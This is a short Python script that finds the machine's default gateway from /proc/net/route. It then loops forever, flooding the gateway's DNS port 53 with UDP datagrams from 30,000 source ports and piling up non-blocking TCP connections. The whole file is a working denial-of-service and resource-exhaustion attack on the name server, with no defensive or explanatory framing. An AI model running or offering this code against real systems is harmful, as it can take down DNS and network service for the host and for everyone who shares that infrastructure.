# Opens as many connections as it can, from all ports of the machine to the name server, which is the only address that
# answers within the host: datagrams from 30,000 ports, then TCP connections, again and again.
import socket, struct

ROUTE = [line.split() for line in open("/proc/net/route")][1:]
GATEWAY = next(socket.inet_ntoa(struct.pack("<I", int(r[2], 16))) for r in ROUTE if r[1] == "00000000")
held = []
while True:
    for port in range(20000, 50000):
        try:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
                one.bind(("", port))
                one.sendto(b"x", (GATEWAY, 53))
        except OSError:
            pass
        if port % 10:
            continue
        try:
            stream = socket.socket()
            stream.setblocking(False)
            stream.connect_ex((GATEWAY, 53))
            held.append(stream)
        except OSError:
            held.clear()
